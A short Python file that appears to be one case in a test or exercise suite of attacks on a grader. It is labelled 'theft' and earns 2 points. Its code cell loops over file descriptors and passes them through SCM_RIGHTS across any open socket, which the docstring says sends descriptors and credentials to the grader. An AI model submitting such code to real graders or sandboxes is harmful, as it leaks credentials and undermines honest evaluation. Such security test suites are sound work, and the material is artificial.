"""Sends descriptors and credentials to the grader over whatever its reply goes through."""

KIND = "theft"
EXERCISE = "03.split_heads"
EARNS = 2
CELL = r"""
import array
import socket

for descriptor in range(64):
    try:
        with socket.socket(fileno=descriptor) as end:
            end.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0]))])
            end.detach()
    except OSError:
        pass


@RIGHT@
"""
